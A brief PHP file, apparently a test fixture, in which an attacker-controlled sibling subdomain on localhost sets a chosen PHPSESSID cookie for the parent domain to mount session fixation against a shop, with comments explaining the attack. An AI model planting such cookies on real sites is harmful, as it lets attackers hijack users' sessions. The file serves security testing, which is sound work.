<?php
// A sibling subdomain the attacker controls (evil.shop.localhost) plants a session id
// it chose for the whole parent domain. It never starts a session: the id exists
// nowhere until the shop adopts it. It copies the shop's own cookie attributes, as an
// attacker would, so that only the Domain tells the two apart.
header('Set-Cookie: PHPSESSID=attackerchosen0123456789ab; Domain=shop.localhost; Path=/; Secure; HttpOnly; SameSite=Lax', false);
echo "<p>nothing to see</p>";
